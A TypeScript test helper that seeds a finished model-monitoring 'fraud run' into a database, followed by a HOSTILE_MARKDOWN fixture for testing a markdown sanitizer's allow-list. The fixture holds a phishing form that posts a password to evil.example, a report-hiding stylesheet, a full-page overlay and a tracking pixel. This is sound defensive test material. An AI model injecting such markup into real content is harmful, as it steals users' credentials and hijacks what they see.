/** Writes a finished fraud run (Notebook + Run + RunCells) straight into the database, no worker needed. */
import type { PrismaClient } from "@/server/generated/prisma/client";
import type { RunInput } from "@/server/reports/snapshot";
import { fraudRun } from "../../unit/reports/fixture";

export async function insertFinishedRun(db: PrismaClient, workspaceId: string, modelId: string, opts: { notebookId?: string; auc?: number; costPerCorrect?: number; markdown?: string; mutate?: (run: RunInput) => void } = {}) {
  const run = fraudRun({ auc: opts.auc, costPerCorrect: opts.costPerCorrect });
  opts.mutate?.(run); // e.g. failed cells, a window without labels
  const notebook = opts.notebookId
    ? await db.notebook.findUniqueOrThrow({ where: { id: opts.notebookId } })
    : await db.notebook.create({
        data: {
          workspaceId,
          modelId,
          title: "Weekly health check",
          cells: JSON.stringify([{ id: "intro", type: "markdown", source: "# Weekly health" }]),
        },
      });
  const cells = run.cells.map((c) => ({ id: c.cellId, type: c.type, title: c.title ?? undefined, ...(c.type === "markdown" ? { source: opts.markdown ?? "# Weekly health" } : {}) }));
  const created = await db.run.create({
    data: {
      notebookId: notebook.id,
      workspaceId,
      modelId,
      status: run.status,
      resultStatus: run.resultStatus,
      trigger: "manual",
      notebookRevision: notebook.revision,
      snapshot: JSON.stringify({ title: notebook.title, defaults: {}, cells }),
      startedAt: new Date(Date.now() - 9000),
      finishedAt: new Date(),
      cells: {
        create: run.cells.map((c, position) => ({
          cellId: c.cellId,
          position,
          type: c.type,
          status: c.status,
          error: c.error,
          pluginRef: c.pluginRef,
          config: JSON.stringify(c.config ?? {}),
          selection: JSON.stringify(c.selection ?? {}),
          result: c.result ? JSON.stringify(c.result) : null,
          resultStatus: c.resultStatus,
        })),
      },
    },
  });
  return { runId: created.id, notebookId: notebook.id };
}

/** Markdown that, before the allow-list, kept a phishing form, a stylesheet, a full-page overlay and a tracking image. */
export const HOSTILE_MARKDOWN = [
  "Notes.",
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>',
  "<style>.eb-report{display:none}</style>",
  '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:9999;background:#fff">OVERLAYMARKER</div>',
  '<div class="fixed inset-0 z-50">CLASSMARKER</div>',
  "![pixel](https://evil.example/pixel.png)",
].join("\n\n");
